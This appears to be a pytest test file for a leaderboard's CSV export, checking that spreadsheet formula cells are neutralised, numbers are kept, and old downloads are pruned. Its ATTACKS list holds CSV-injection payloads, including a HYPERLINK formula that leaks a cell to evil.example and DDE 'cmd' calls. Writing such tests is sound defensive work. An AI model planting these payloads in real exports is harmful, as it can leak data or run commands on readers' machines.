"""Served CSVs: cells a spreadsheet would run as formulas are neutralised (OWASP rule), numbers
stay numbers, and old download files are pruned."""

from __future__ import annotations

import csv
import html
import os
import re
import shutil
import subprocess
import time

import pandas as pd
import pytest

from leaderboard.csv_export import (
    ALL_RESULTS_KEYS,
    neutralise_cell,
    neutralised,
    prune_downloads,
    write_all_results_csv,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-0.5", "+3", "1e-3", "-2.5E+4", "Ada", "a=b", "", 0.25, -3, None]
)
def test_numbers_and_plain_text_are_unchanged(cell):
    assert neutralise_cell(cell) == cell


def attack_frame() -> pd.DataFrame:
    rows = len(ATTACKS)
    frame = pd.DataFrame({key: ["x"] * rows for key in ALL_RESULTS_KEYS})
    frame["submitter"] = ATTACKS
    frame["organisation"] = list(reversed(ATTACKS))
    frame["reliability"] = [-0.5 + 0.25 * n for n in range(rows)]  # negative numbers too
    frame["seed"] = list(range(-3, rows - 3))
    return frame


def test_a_written_csv_shows_formulas_as_text_and_keeps_numbers(tmp_path):
    frame = attack_frame()
    path = write_all_results_csv(frame, folder=tmp_path)
    with path.open(newline="") as handle:  # cells may hold \r: no newline translation
        rows = list(csv.DictReader(handle))
    for row, attack in zip(rows, ATTACKS, strict=True):
        assert row["submitter"] == "'" + attack
        assert not row["organisation"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [row["reliability"] for row in rows][:3] == ["-0.5", "-0.25", "0.0"]
    read = pd.read_csv(path)
    assert pd.api.types.is_float_dtype(read["reliability"])
    assert pd.api.types.is_integer_dtype(read["seed"])
    assert neutralised(frame)["reliability"].tolist() == frame["reliability"].tolist()


def test_old_downloads_are_pruned_and_the_new_one_kept(tmp_path):
    now = time.time()
    for n in range(30):
        old = tmp_path / f"multimededit-all-results-old{n:02d}.csv"
        old.write_text("x")
        os.utime(old, (now - 7200, now - 7200))  # two hours old
    for n in range(60):
        recent = tmp_path / f"leaderboard-filtered-new{n:02d}.csv"
        recent.write_text("x")
        os.utime(recent, (now - 60 - n, now - 60 - n))
    stale = tmp_path / "leaderboard-filtered-x.1234.partial"
    stale.write_text("x")
    os.utime(stale, (now - 600, now - 600))
    (tmp_path / "notes.txt").write_text("not a download")
    path = write_all_results_csv(attack_frame(), folder=tmp_path)
    left = sorted(p.name for p in tmp_path.glob("*.csv"))
    assert path.name in left and len(left) == 50
    assert not any("old" in name for name in left)
    assert "leaderboard-filtered-new00.csv" in left and "leaderboard-filtered-new59.csv" not in left
    assert not stale.exists() and (tmp_path / "notes.txt").exists()
    deleted = prune_downloads(tmp_path, keep=path, max_files=1)
    assert len(deleted) == 49
    assert sorted(os.listdir(tmp_path)) == sorted([path.name, "notes.txt"])


def _html_rows(page: str) -> list[list[str]]:
    cell = re.compile(r"<td[^>]*>(.*?)</td>", re.S)
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", page, re.S)
    return [
        [html.unescape(re.sub("<[^>]+>", "", c)).strip() for c in cell.findall(r)] for r in rows
    ]


def test_libreoffice_shows_the_formulas_as_text(tmp_path):
    """The real spreadsheet check: LibreOffice Calc opens the CSV and renders it to HTML; each
    attack cell comes out as its own text behind the quote, and the numbers as numbers.
    `scripts/setup --dev` installs Debian's libreoffice-calc-nogui; without it this fails."""
    assert shutil.which("soffice"), "install LibreOffice Calc: bash scripts/setup --dev"
    path = write_all_results_csv(attack_frame(), folder=tmp_path)
    out = tmp_path / "out"
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
               "--convert-to", "html", str(path), "--outdir", str(out)]  # fmt: skip
    done = subprocess.run(command, capture_output=True, timeout=180)
    assert done.returncode == 0, done.stderr[-500:]
    rows = _html_rows((out / path.with_suffix(".html").name).read_text(encoding="utf-8"))
    submitter, reliability = rows[0].index("submitter"), rows[0].index("reliability")
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[submitter].startswith("'"), row[submitter]
        assert attack.strip() in row[submitter], (attack, row[submitter])
    numbers = [float(row[reliability]) for row in rows[1:]]
    assert numbers == attack_frame()["reliability"].tolist()
